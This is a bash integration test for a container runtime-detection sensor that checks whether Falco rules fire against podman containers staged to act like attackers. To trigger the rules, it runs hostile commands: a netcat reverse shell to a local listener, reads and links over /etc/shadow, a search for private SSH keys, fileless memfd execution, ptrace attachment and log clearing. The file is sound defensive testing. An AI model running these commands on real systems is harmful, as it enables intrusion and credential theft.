#!/usr/bin/env bash
# runtime-detect: `runtime watch --rules` with Falco's own rules file on the
# real kernel, watching real podman containers that behave like attackers.
# Each behaviour must raise the Falco rule that names it, with the
# container's id and image; ordinary activity in another container must
# raise nothing; `runtime record` of the same run replayed offline must give
# the same alerts as the live watch.
#
# Rules that cannot fire here, asserted as such:
#   Drop and execute new binary in container: needs proc.is_exe_upper_layer,
#   which is filled (in user space) only for containers on overlayfs, and
#   this test's podman uses the vfs driver (runtime-drift.sh tests it on
#   overlay).
# Rules asserted to fire: see the `fires` lines below (14 of the stable file).
#
# With them, our own write-below.yaml (writes below /etc and the binary
# directories, as a second --rules); and a container whose very first action
# is a sensitive read: its alert must already carry the container's name and
# image (events wait for the engine's answer, they are not evaluated without).
. "$(dirname "$0")/lib.sh"

[ "$(id -u)" -eq 0 ] || skip_all "needs root: the sensor loads eBPF programs"
[ -e /sys/kernel/btf/vmlinux ] || skip_all "kernel without BTF (/sys/kernel/btf/vmlinux)"
command -v podman >/dev/null || skip_all "podman is not installed"
command -v gcc >/dev/null || skip_all "gcc is not installed (static helpers)"
"$CUSTOMS" runtime watch --help 2>/dev/null | grep -q -- --rules || skip_all "no runtime watch --rules"
alpine=$CUSTOMS_SHARED/images/alpine/alpine-minirootfs-3.20.3-x86_64.tar.gz
rules=$CUSTOMS_SHARED/rules/falco/falco_rules.yaml
below=$(cd "$(dirname "$0")/../data/runtime-detect" && pwd)/write-below.yaml
[ -f "$alpine" ] || skip_all "missing $alpine"
[ -f "$rules" ] || skip_all "missing $rules"
src=$(cd "$(dirname "$0")/../data/runtime-detect" && pwd)

# usage errors need no kernel
expect_error "--alerts-to without --rules" 2 "--alerts-to needs --rules" \
	runtime watch --alerts-to stdout
expect_error "bad alert target" 2 "" runtime watch --rules "$rules" --alerts-to "pigeon:x"
expect_error "record without --out" 2 "needs --out" runtime record --duration 1
expect_error "bad rules file" 2 "" runtime watch --rules /nonexistent.yaml

# the helpers alpine lacks, static so they run in the container
for h in ptrace-attach memfd-exec packet-socket ssh-connect; do
	gcc -static -O2 -o "$T_TMP/$h" "$src/$h.c" || skip_all "gcc -static failed for $h"
done

image=localhost/customs-detect-test:1
t_podman import --quiet "$alpine" "$image" >/dev/null || skip_all "podman import failed"
sock=$T_TMP/podman.sock
t_podman system service --time=0 "unix://$sock" >"$T_TMP/service.log" 2>&1 &
service=$!
at_exit "pkill -P $service; kill $service; wait $service"
for _ in $(seq 100); do
	[ -S "$sock" ] && curl -sf --unix-socket "$sock" http://d/_ping >/dev/null && break
	sleep 0.1
done
[ -S "$sock" ] || skip_all "podman service did not start: $(cat "$T_TMP/service.log")"

# the reverse shell's server: sends one command to the shell, then closes
port=$(free_port)
python3 -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(4)
s.settimeout(120)
while True:
    try:
        c, _ = s.accept()
    except OSError:
        break
    c.sendall(b"echo pwned; exit\n")
    c.settimeout(5)
    try:
        c.recv(100)
    except OSError:
        pass
    c.close()
' "$port" &
listener=$!
at_exit "kill $listener"

alerts=$T_TMP/alerts.jsonl
rec=$T_TMP/events.cse
"$CUSTOMS" runtime rules list "$below" >"$T_TMP/below.list" 2>&1
check "write-below.yaml: both rules active" eval \
	'grep -qE "^active +Error +Container wrote below etc" "$T_TMP/below.list" &&
	 grep -qE "^active +Error +Container wrote below a binary directory" "$T_TMP/below.list"'
"$CUSTOMS" runtime watch --engine "unix://$sock" --rules "$rules" --rules "$below" \
	--alerts-to "file:$alerts" 2>"$T_TMP/watch.err" &
watcher=$!
at_exit "kill $watcher"
"$CUSTOMS" runtime record --engine "unix://$sock" --rules "$rules" --rules "$below" \
	--out "$rec" 2>"$T_TMP/record.err" &
recorder=$!
at_exit "kill $recorder"
for _ in $(seq 300); do
	grep -q "watching:" "$T_TMP/watch.err" && grep -q "recording:" "$T_TMP/record.err" && break
	kill -0 $watcher 2>/dev/null || break
	sleep 0.1
done
grep -q "watching:" "$T_TMP/watch.err" || { cat "$T_TMP/watch.err" >&2; fail "the sensor started"; finish; }
pass "the sensor started with the rules' syscalls: $(sed -n 's/.*watching: //p' "$T_TMP/watch.err")"
check "only the syscalls the rules need (no mount, no bind)" \
	eval '! grep "watching:" "$T_TMP/watch.err" | grep -qE " (mount|bind)="'
check "unlink and rename attached for write-below.yaml" \
	eval 'grep "watching:" "$T_TMP/watch.err" | grep " unlink=" | grep -q " rename="'
check "exec, fork, exit always attached" \
	eval 'grep "watching:" "$T_TMP/watch.err" | grep -q "exec=.*exit=.*fork="'
check "the open prefilter is on (every alert below comes through it)" \
	grep -qE "open prefilter on: [0-9]+ path prefixes" "$T_TMP/watch.err"

name=customs-detect-$$
quiet=customs-quiet-$$
first=customs-first-$$
PR() { podman --root "$T_TMP/podman/root" --runroot "$T_TMP/podman/run" --storage-driver vfs "$@"; }
at_exit "PR rm -f -t 0 '$name' '$quiet' '$first' >/dev/null 2>&1"
t_podman run -d --name "$name" --network host --cap-add NET_RAW \
	--ulimit nofile=1024:1024 --ulimit nproc=1024:1024 "$image" sleep 600 >/dev/null
check "the attacker container runs" test $? -eq 0
for h in ptrace-attach memfd-exec packet-socket; do
	t_podman cp "$T_TMP/$h" "$name:/usr/local/bin/$h" || fail "podman cp $h"
done
cid=$(t_podman inspect --format '{{.Id}}' "$name")

ex() { t_podman exec "$@" >>"$T_TMP/exec.log" 2>&1; }
ex -t "$name" sh -c 'echo terminal shell'
ex "$name" cat /etc/shadow
ex "$name" nc 127.0.0.1 "$port" -e /bin/sh
ex "$name" ptrace-attach
ex "$name" memfd-exec
ex "$name" packet-socket
ex "$name" sh -c 'cp /bin/busybox /tmp/dropped && /tmp/dropped true'
ex "$name" ln -s /etc/shadow /tmp/shadow-link
ex "$name" ln /etc/shadow /tmp/shadow-hard
ex "$name" find / -xdev -name id_rsa
ex "$name" sh -c 'echo x >/var/log/customs-test.log'
ex "$name" cat /etc/../etc/../etc/shadow
ex "$name" ptrace-attach traceme
t_podman cp "$T_TMP/ssh-connect" "$name:/usr/local/bin/ssh" || fail "podman cp ssh"
ex "$name" ssh
ex "$name" sh -c 'echo x > /etc/customs-test'
ex "$name" cp /bin/busybox /bin/customs-test-bin

# a new container whose first process reads /etc/shadow: its first events
# come before anyone asked the engine about it
t_podman run --name "$first" --ulimit nofile=1024:1024 --ulimit nproc=1024:1024 "$image" \
	cat /etc/shadow >>"$T_TMP/exec.log" 2>&1
check "the first-action container ran" test $? -eq 0
first_id=$(t_podman inspect --format '{{.Id}}' "$first")

# silence: ordinary activity in another container raises no alert
t_podman run --rm --name "$quiet" --cidfile "$T_TMP/quiet.cid" --ulimit nofile=1024:1024 --ulimit nproc=1024:1024 "$image" \
	sh -c 'ls / >/dev/null; cat /etc/hostname >/dev/null; i=0;
		while [ $i -lt 50 ]; do i=$((i + 1)); done; echo $i' >>"$T_TMP/exec.log" 2>&1
check "the quiet container ran" test $? -eq 0

sleep 2
kill -INT $watcher $recorder
wait $watcher
check "watch exits 0 on SIGINT" test $? -eq 0
wait $recorder
check "record exits 0 on SIGINT" test $? -eq 0
check "watch prints its counters" grep -q "alerts, .* rate-limited" "$T_TMP/watch.err"
check "watch counts events that waited for container metadata" \
	grep -qE " [1-9][0-9]* waited for container metadata" "$T_TMP/watch.err"
check "the recording exists" test -s "$rec"
check "no temporary file left" eval '! ls "$T_TMP" | grep -q "events.cse.tmp"'

has() { # has RULE FILE: an alert of RULE for the attacker container with its id and image
	python3 -c '
import json, sys
rule, cid, image = sys.argv[1], sys.argv[2], sys.argv[3]
for l in open(sys.argv[4]):
    a = json.loads(l)
    e = a["event"]
    if (a["rule"] == rule and e.get("container.full_id") == cid
            and e.get("container.id") == cid[:12] and e.get("container.image") == image
            and a.get("priority") and a.get("output") and isinstance(a.get("tags"), list)):
        sys.exit(0)
sys.exit(1)' "$1" "$cid" "$image" "$2"
}
fires() { if has "$1" "$alerts"; then pass "fires: $1"; else fail "fires: $1"; fi; }

check "alerts are JSON lines" python3 -c '
import json, sys
n = sum(1 for l in open(sys.argv[1]) if json.loads(l))
sys.exit(0 if n else 1)' "$alerts"
fires "Terminal shell in container"
fires "Read sensitive file untrusted"
fires "Netcat Remote Code Execution in Container"
fires "Redirect STDOUT/STDIN to Network Connection in Container"
fires "PTRACE attached to process"
fires "Fileless execution via memfd_create"
fires "Packet socket created in container"
fires "Create Symlink Over Sensitive Files"
fires "Create Hardlink Over Sensitive Files"
fires "Search Private Keys or Passwords"
fires "Clear Log Activities"
fires "Directory traversal monitored file read"
fires "PTRACE anti-debug attempt"
fires "Container wrote below etc"
fires "Container wrote below a binary directory"
check "the /etc and /bin writes name their files" python3 -c '
import json, sys
want = {("Container wrote below etc", "/etc/customs-test"),
        ("Container wrote below a binary directory", "/bin/customs-test-bin")}
got = {(a["rule"], a["event"].get("fd.name")) for a in map(json.loads, open(sys.argv[1]))
       if a["event"].get("container.full_id") == sys.argv[2]}
sys.exit(0 if want <= got else 1)' "$alerts" "$cid"
first_has() { # first_has FILE: the first-action container's alerts carry its name and image
	python3 -c '
import json, sys
cid, name, image = sys.argv[2], sys.argv[3], sys.argv[4]
ok = [a for a in map(json.loads, open(sys.argv[1]))
      if a["rule"] == "Read sensitive file untrusted" and a["event"].get("container.full_id") == cid]
sys.exit(0 if ok and all(a["event"].get("container.name") == name
                         and a["event"].get("container.image") == image
                         and a["event"].get("proc.name") == "cat" for a in ok) else 1)' \
		"$1" "$first_id" "$first" "$image"
}
check "the first action of a new container alerts with its name and image" first_has "$alerts"
if ip route show default 2>/dev/null | grep -q .; then
	fires "Disallowed SSH Connection Non Standard Port"
else
	echo "# no default route: the outbound connect cannot get EINPROGRESS; SSH port rule not asserted"
fi
if has "Drop and execute new binary in container" "$alerts"; then
	fail "Drop and execute new binary does not fire (vfs: no upper layer)"
else
	pass "Drop and execute new binary does not fire (vfs: no upper layer)"
fi
check "the redirect alert names the connection to the listener" python3 -c '
import json, sys
for l in open(sys.argv[1]):
    a = json.loads(l)
    if a["rule"].startswith("Redirect STDOUT") and a["event"].get("fd.sip") == "127.0.0.1" \
            and a["event"].get("fd.sport") == int(sys.argv[2]):
        sys.exit(0)
sys.exit(1)' "$alerts" "$port"
check "an alert carries the parent chain" python3 -c '
import json, sys
for l in open(sys.argv[1]):
    a = json.loads(l)
    if a["rule"] == "Read sensitive file untrusted" and a["event"].get("proc.name") == "cat" \
            and a["event"].get("proc.ancestors"):
        sys.exit(0)
sys.exit(1)' "$alerts"
n=$(python3 -c '
import json, sys
print(sum(1 for l in open(sys.argv[1]) if json.loads(l)["event"].get("container.name") == sys.argv[2]))' \
	"$alerts" "$quiet")
check "silence: ordinary container activity raises no alert ($n)" test "$n" = 0
n=$(python3 -c '
import json, sys
print(sum(1 for l in open(sys.argv[1]) if json.loads(l)["event"].get("container.full_id") == sys.argv[2]))' \
	"$alerts" "$(cat "$T_TMP/quiet.cid")")
check "silence: none for the quiet container's id either ($n)" test "$n" = 0

# the recording replayed offline: the same alerts for the attacker container
"$CUSTOMS" runtime replay "$rec" --rules "$rules" --rules "$below" -o "$T_TMP/replay.jsonl" \
	2>"$T_TMP/replay.err"
check "replay of the recording exits 0" test $? -eq 0
summary() {
	python3 -c '
import json, sys
s = sorted({json.loads(l)["rule"] for l in open(sys.argv[1])
            if json.loads(l)["event"].get("container.full_id") == sys.argv[2]})
print("|".join(s))' "$1" "$cid"
}
live=$(summary "$alerts")
offline=$(summary "$T_TMP/replay.jsonl")
check "replay gives the live rules ($offline)" test -n "$live" -a "$live" = "$offline"
check "the recording has the first-action container's name and image" first_has "$T_TMP/replay.jsonl"

finish
